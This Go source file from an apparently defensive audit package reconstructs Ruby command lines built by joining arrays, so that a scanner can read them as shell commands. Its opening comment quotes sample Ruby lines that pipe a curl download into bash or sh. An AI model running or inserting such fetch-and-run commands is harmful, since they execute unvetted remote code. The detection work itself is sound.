package audit

import "strings"

// A Ruby command line joined from an array before a shell runs it:
// system(%w[curl -fsSL https://h/x].join(" ") + " | bash"), cmd =
// ["curl", url, "|", "sh"].join(" "); system(cmd), or an interpolation
// of a join ("#{FETCH.join(" ")} | sh"). The shell runs the joined text,
// so it is read as that command line: literal elements as their text
// (a %w list's words, a splat of one), a name assigned a string or an
// array followed, anything else an unknown word ($X).

// maxRubyJoinDepth bounds how deep names are followed in a join.
const maxRubyJoinDepth = 6

// joinValue returns the string expr computes when it is built from
// literals, joins of arrays and + (ok), and whether an array's join was
// part of it (joined).
func (r *rubyScan) joinValue(expr string, depth int) (val string, joined, ok bool) {
	expr = strings.TrimSpace(expr)
	if depth > maxRubyJoinDepth || expr == "" {
		return "", false, false
	}
	if i, isLit := r.litOf(expr); isLit {
		l := r.lits[i]
		if l.cmd || l.words {
			return "", false, false
		}
		if !strings.Contains(r.src[l.start:l.end], "#{") {
			return l.body, false, true
		}
		return r.joinRender(i, depth), r.joinedInterp(i, depth), true
	}
	if parts := pySplitTop(expr, '+'); len(parts) > 1 {
		var b strings.Builder
		for _, p := range parts {
			v, j, ok := r.joinValue(p, depth+1)
			if !ok {
				v = "$X"
			}
			joined = joined || j
			b.WriteString(v)
		}
		return b.String(), joined, joined
	}
	if list, sep, ok := rubyJoinCall(expr); ok {
		s := ""
		if sep != "" {
			if i, isLit := r.litOf(sep); isLit && !r.lits[i].words {
				s = r.lits[i].body
			} else if q := quotedLit.FindString(sep); q == sep {
				s = sep[1 : len(sep)-1] // in an interpolation, no literal of its own
			} else {
				return "", false, false
			}
		}
		elems, ok := r.listElems(list, depth+1)
		if !ok {
			return "", false, false
		}
		return strings.Join(elems, s), true, true
	}
	if v, isName := r.assigns[expr]; isName && isDollarName(expr) {
		return r.joinValue(v, depth+1)
	}
	return "", false, false
}

// rubyJoinCall splits LIST.join(SEP), LIST.join and LIST * SEP.
func rubyJoinCall(expr string) (list, sep string, ok bool) {
	if strings.HasSuffix(expr, ".join") {
		return strings.TrimSpace(expr[:len(expr)-5]), "", true
	}
	if strings.HasSuffix(expr, ")") {
		if i := strings.LastIndex(expr, ".join("); i > 0 {
			return strings.TrimSpace(expr[:i]), strings.TrimSpace(expr[i+6 : len(expr)-1]), true
		}
	}
	if i := strings.LastIndex(expr, " * "); i > 0 && strings.HasSuffix(strings.TrimSpace(expr[:i]), "]") {
		return strings.TrimSpace(expr[:i]), strings.TrimSpace(expr[i+3:]), true
	}
	return "", "", false
}

// listElems returns the elements of an array expression as text: a
// literal array, a %w list, a name assigned one, or a sum of them.
func (r *rubyScan) listElems(list string, depth int) ([]string, bool) {
	list = strings.TrimSpace(list)
	if depth > maxRubyJoinDepth {
		return nil, false
	}
	if strings.HasPrefix(list, "(") && strings.HasSuffix(list, ")") {
		return r.listElems(list[1:len(list)-1], depth+1)
	}
	if i, isLit := r.litOf(list); isLit && r.lits[i].words {
		return strings.Fields(r.lits[i].body), true
	}
	if strings.HasPrefix(list, "[") && strings.HasSuffix(list, "]") {
		var out []string
		for _, el := range splitTop(list[1 : len(list)-1]) {
			el = strings.TrimSpace(el)
			if el == "" {
				continue
			}
			if strings.HasPrefix(el, "*") {
				if sub, ok := r.listElems(el[1:], depth+1); ok {
					out = append(out, sub...)
					continue
				}
			}
			if v, _, ok := r.joinValue(el, depth+1); ok {
				out = append(out, v)
			} else if p := r.path(el, 0); p != "$X" && rubyPlainPath.MatchString(p) {
				out = append(out, p)
			} else {
				out = append(out, "$X")
			}
		}
		return out, true
	}
	if parts := pySplitTop(list, '+'); len(parts) > 1 {
		var out []string
		for _, p := range parts {
			sub, ok := r.listElems(p, depth+1)
			if !ok {
				return nil, false
			}
			out = append(out, sub...)
		}
		return out, true
	}
	if v, isName := r.assigns[list]; isName && isDollarName(list) {
		return r.listElems(v, depth+1)
	}
	return nil, false
}

// joinedInterp reports whether literal i interpolates a join.
func (r *rubyScan) joinedInterp(i, depth int) bool {
	l := r.lits[i]
	for _, in := range rubyInterpRe.FindAllString(r.src[l.start:l.end], 16) {
		if _, j, ok := r.joinValue(in[2:len(in)-1], depth+1); ok && j {
			return true
		}
	}
	return false
}

// joinRender returns literal i's text with each interpolation of a join
// replaced by the joined text (others as render gives them).
func (r *rubyScan) joinRender(i, depth int) string {
	l := r.lits[i]
	raw := r.src[l.start:l.end]
	interps := rubyInterpRe.FindAllString(raw, 16)
	body := r.render(i)
	if len(interps) == 0 || !strings.Contains(body, "$X") {
		return body
	}
	var b strings.Builder
	for _, in := range interps {
		at := strings.Index(body, "$X")
		if at < 0 {
			break
		}
		if v, j, ok := r.joinValue(in[2:len(in)-1], depth+1); ok && j {
			b.WriteString(body[:at] + v)
			body = body[at+2:]
			continue
		}
		b.WriteString(body[:at+2])
		body = body[at+2:]
	}
	b.WriteString(body)
	return b.String()
}
